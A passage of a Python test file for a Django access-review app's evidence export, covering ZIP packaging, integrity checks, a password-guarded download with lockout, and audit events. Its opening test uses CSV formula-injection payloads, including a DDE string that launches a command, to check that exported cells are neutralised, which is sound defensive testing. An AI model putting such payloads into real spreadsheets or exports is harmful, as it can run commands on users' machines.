    # A field of choices holding none of them, as a database edited by hand might.
    ReviewItem.objects.filter(pk=mine[-1].pk).update(recommendation="=1+1")

    files = members(export(campaign, by=manager))

    edited = [
        row for row in rows(files, "population/items.csv") if row["item"] == str(mine[-1].uuid)
    ]
    assert edited[0]["recommendation"] == "'=1+1"
    neutralised = set()
    for name in (name for name in files if name.endswith(".csv")):
        for row in csv.reader(io.StringIO(files[name].decode(), newline="")):
            for cell in row:
                assert not cell.startswith(FORMULA_STARTS), (name, cell)
                if cell[:1] == "'":
                    neutralised.add(cell[1:2])
    assert neutralised >= set(FORMULA_STARTS)
    # The JSON files keep every value as it was.
    reasons = {row["reason"] for row in rows(files, "decisions.jsonl")}
    assert "=SUM(1+1)*cmd|' /C calc'!A0" in reasons
    names = {row["principal_name"] for row in rows(files, "population/items.jsonl")}
    assert set(payloads.values()) <= names


# The commands -----------------------------------------------------------------------------------


def test_export_evidence_writes_a_package_that_verify_evidence_accepts(signed, tmp_path):
    target = tmp_path / "evidence.zip"
    out = io.StringIO()

    call_command("export_evidence", str(signed.uuid), "--output", str(target), stdout=out)

    assert f"Wrote {target}: evidence of {signed}, final" in out.getvalue()
    assert [path.name for path in tmp_path.iterdir()] == ["evidence.zip"]
    files = members(target.read_bytes())
    out = io.StringIO()
    call_command("verify_evidence", str(target), stdout=out)
    assert out.getvalue().startswith(f"evidence holds: {len(files) - 1} files")

    changed = bytearray(files["reports/status.csv"])
    changed[5] ^= 0x01
    target.write_bytes(zipped({**files, "reports/status.csv": bytes(changed)}))
    err = io.StringIO()
    with pytest.raises(SystemExit) as exited:
        call_command("verify_evidence", str(target), stdout=io.StringIO(), stderr=err)
    assert exited.value.code == 1
    assert err.getvalue() == "reports/status.csv: its SHA-256 does not match the manifest\n"


def test_export_evidence_writes_the_language_it_is_told_or_the_installations(
    campaign, tmp_path, settings
):
    target = tmp_path / "evidence.zip"
    export_to = [str(campaign.uuid), "--output", str(target)]

    def summary(*args) -> str:
        call_command("export_evidence", *export_to, *args, stdout=io.StringIO())
        assert evidence.verify(target) == []
        return members(target.read_bytes())["summary.html"].decode()

    settings.LANGUAGE_CODE = "en"
    assert "<h2>The campaign</h2>" in summary()
    assert "<h2>キャンペーン</h2>" in summary("--language", "ja")
    settings.LANGUAGE_CODE = "ja"
    assert "<h2>キャンペーン</h2>" in summary()
    assert "<h2>The campaign</h2>" in summary("--language", "en")
    with pytest.raises(CommandError, match="invalid choice: 'fr'"):
        summary("--language", "fr")


def test_export_evidence_refuses_clearly_and_leaves_no_file(
    campaign, manager, tmp_path, monkeypatch
):
    def refused(*args) -> str:
        with pytest.raises(CommandError) as caught:
            call_command("export_evidence", *args, stdout=io.StringIO())
        return str(caught.value)

    target = str(tmp_path / "evidence.zip")
    assert refused("not-an-id", "--output", target) == "no campaign not-an-id"
    unknown = "00000000-0000-4000-8000-000000000000"
    assert refused(unknown, "--output", target) == f"no campaign {unknown}"
    missing = tmp_path / "missing" / "evidence.zip"
    assert refused(str(campaign.uuid), "--output", str(missing)).startswith(
        f"cannot write {missing}: No such file or directory"
    )
    (tmp_path / "taken").mkdir()
    assert refused(str(campaign.uuid), "--output", str(tmp_path / "taken")).startswith(
        f"cannot write {tmp_path / 'taken'}"
    )
    draft = new_campaign(
        name="Draft", owner=manager, due_date=timezone.localdate() + timedelta(days=9)
    )
    assert "is a draft" in refused(str(draft.uuid), "--output", target)
    Campaign.objects.filter(pk=draft.pk).update(state=Campaign.State.LAUNCHING)
    assert "is still launching" in refused(str(draft.uuid), "--output", target)

    def broken(campaign, stream, **kwargs):
        stream.write(b"PK half a package")
        raise RuntimeError("the database went away")

    monkeypatch.setattr(evidence, "build", broken)
    with pytest.raises(RuntimeError):
        call_command("export_evidence", str(campaign.uuid), "--output", target)
    assert [path.name for path in tmp_path.iterdir()] == ["taken"]


def test_verify_evidence_names_a_file_that_is_no_package(tmp_path):
    err = io.StringIO()
    with pytest.raises(SystemExit) as exited:
        call_command("verify_evidence", str(tmp_path / "none.zip"), stderr=err)
    assert exited.value.code == 1
    assert err.getvalue().startswith(f"{tmp_path / 'none.zip'}: not a readable ZIP archive")


# The download -----------------------------------------------------------------------------------


def url(campaign):
    return reverse("reviews:evidence", args=[campaign.uuid])


PASSWORD = "correct horse battery staple"


def download(client, campaign) -> tuple[object, bytes]:
    response = client.post(url(campaign), {"password": PASSWORD})
    assert response.status_code == 200
    return response, b"".join(response.streaming_content)


@pytest.mark.parametrize("who", ["auditor", "manager"])
def test_auditors_and_managers_download_a_package_that_verifies(client, campaign, who, request):
    user = request.getfixturevalue(who)
    client.force_login(user)

    response, package = download(client, campaign)

    today = timezone.now().astimezone(UTC).date().isoformat()
    assert response["Content-Disposition"] == (
        f'attachment; filename="attest-evidence-{campaign.uuid}-interim-{today}.zip"'
    )
    assert response["Content-Type"] == "application/zip"
    assert "no-store" in response["Cache-Control"]
    assert problems(package) == []
    assert json.loads(members(package)["manifest.json"])["generated_by"] == user.username


def test_a_signed_off_campaign_downloads_as_final(client, auditor, signed):
    client.force_login(auditor)
    response, package = download(client, signed)
    assert "-final-" in response["Content-Disposition"]
    assert json.loads(members(package)["manifest.json"])["interim"] is False


def test_the_download_is_in_the_language_of_whoever_downloads_it(client, auditor, signed, settings):
    client.force_login(auditor)
    client.cookies[settings.LANGUAGE_COOKIE_NAME] = "ja"
    mark = audit_mark()

    _, package = download(client, signed)

    assert problems(package) == []
    files = members(package)
    assert '<html lang="ja">' in files["summary.html"].decode()
    assert files["README.md"].decode().startswith(f"# 証跡パッケージ: {signed.name}\n")
    [event] = events_since(mark)
    assert event.after["language"] == "ja"


def test_the_download_records_itself_and_changes_nothing_else(client, auditor, signed):
    client.force_login(auditor)
    before, mark = state_of(signed), audit_mark()

    _, package = download(client, signed)

    assert state_of(signed) == before
    [event] = events_since(mark)
    assert (event.action, event.actor, event.object_id) == (
        "evidence.exported",
        auditor,
        str(signed.pk),
    )
    assert event.after["interim"] is False
    assert event.after["manifest_sha256"] == sha256(members(package)["manifest.json"])
    assert event.request_id  # the download's own request


@pytest.mark.parametrize("who", ["reviewer", "outsider"])
def test_whoever_does_not_oversee_campaigns_gets_a_404(client, campaign, who, request):
    client.force_login(request.getfixturevalue(who))
    mark = audit_mark()
    assert client.get(url(campaign)).status_code == 404
    assert events_since(mark) == []


def test_a_draft_or_unknown_campaign_has_no_evidence(client, auditor, account, manager):
    draft = new_campaign(
        name="Draft", owner=manager, due_date=timezone.localdate() + timedelta(days=9)
    )
    client.force_login(auditor)
    assert client.get(url(draft)).status_code == 404
    assert client.get(url(Campaign(uuid="00000000-0000-4000-8000-000000000000"))).status_code == 404


def test_the_download_asks_for_the_password_again_and_refuses_a_wrong_one(
    client, auditor, campaign
):
    client.force_login(auditor)
    mark = audit_mark()
    asked = client.get(url(campaign))
    assert asked.status_code == 200
    assert "Your password" in asked.text
    assert "no-store" in asked["Cache-Control"]

    refused = client.post(url(campaign), {"password": "not my password"})
    assert refused.status_code == 200
    assert refused["Content-Type"].startswith("text/html")
    assert "The password is not right." in refused.text
    assert client.post(url(campaign)).status_code == 200  # no password: the form again
    # The wrong password is in the trail as a failed sign-in; nothing was exported.
    assert [event.action for event in events_since(mark)] == ["auth.login_failed"]


def test_wrong_passwords_at_the_download_lock_the_user_out_as_failed_sign_ins(
    client, auditor, campaign, settings
):
    client.force_login(auditor)
    for _ in range(settings.AXES_FAILURE_LIMIT - 1):
        assert client.post(url(campaign), {"password": "not my password"}).status_code == 200

    locked = client.post(url(campaign), {"password": "not my password"})
    assert locked.status_code == 429
    assert "Signing in is locked for 30 minutes" in locked.text
    # Locked: the right password neither downloads the package nor signs in.
    assert client.post(url(campaign), {"password": PASSWORD}).status_code == 429
    sign_in = Client().post(reverse("login"), {"username": auditor.username, "password": PASSWORD})
    assert sign_in.status_code == 429
    assert AuditEvent.objects.filter(action="auth.locked_out").count() == 1
    assert not AuditEvent.objects.filter(action="evidence.exported").exists()


def test_the_download_refuses_other_methods(client, auditor, campaign):
    client.force_login(auditor)
    assert client.put(url(campaign)).status_code == 405
    assert client.delete(url(campaign)).status_code == 405


def test_the_campaign_page_offers_the_download_to_those_who_oversee(
    client, auditor, reviewer, campaign
):
    client.force_login(auditor)
    page = client.get(campaign.get_absolute_url()).content.decode()
    assert f'href="{url(campaign)}"' in page
    assert "Download the evidence (ZIP)" in page
    assert "interim: the campaign is not signed off yet" in page
    client.force_login(reviewer)
    assert url(campaign) not in client.get(campaign.get_absolute_url()).content.decode()


# Bounded memory ---------------------------------------------------------------------------------


def test_a_large_campaign_exports_in_bounded_memory(campaign, items):
    template = items[0]
    # Heavy items, as privileged ones listing many services are: about 5 kB shown each.
    facts = {**template.facts}
    facts["principal"] = {**facts["principal"], "tags": {f"tag-{n}": "v" * 750 for n in range(5)}}
    template.facts = facts
    ReviewItem.objects.filter(pk=template.pk).update(
        facts=facts, shown_sha256=shown_sha256(template)
    )
    copy_items(template, 5000)
    total = campaign.items.count()

    with tempfile.TemporaryFile() as stream:
        tracemalloc.start()
        try:
            manifest = evidence.build(campaign, stream)
            peak = tracemalloc.get_traced_memory()[1]
        finally:
            tracemalloc.stop()
        stream.seek(0)
        assert evidence.verify(stream) == []

    written = sum(entry["bytes"] for entry in manifest["files"].values())
    assert manifest["counts"]["items"] == total > 5000
    assert written > 3 * MEMORY_BOUND
    assert peak < MEMORY_BOUND, f"{peak:,} bytes at the peak for {written:,} bytes written"
